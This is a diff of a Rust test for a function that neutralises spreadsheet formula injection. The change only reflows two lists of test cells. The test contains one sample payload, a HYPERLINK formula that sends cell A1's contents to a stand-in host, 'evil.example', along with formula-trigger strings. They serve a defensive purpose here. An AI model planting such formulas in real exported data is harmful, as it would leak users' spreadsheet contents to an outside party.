@@ -114,10 +114,14 @@ mod tests {
     fn every_trigger_is_neutralised() {
         let payload = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
         assert_eq!(neutralize(payload), format!("'{payload}"));
-        for cell in ["=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=1", "-", "+", "=-1"] {
+        for cell in [
+            "=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=1", "-", "+", "=-1",
+        ] {
             assert_eq!(neutralize(cell), format!("'{cell}"), "{cell:?}");
         }
-        for cell in ["", "hello", "a=b", "1+1", "-12", "+3.5", "-0.25", "1e-3", "-4E+2", "'x"] {
+        for cell in [
+            "", "hello", "a=b", "1+1", "-12", "+3.5", "-0.25", "1e-3", "-4E+2", "'x",
+        ] {
             assert_eq!(neutralize(cell), cell, "{cell:?}");
         }
     }
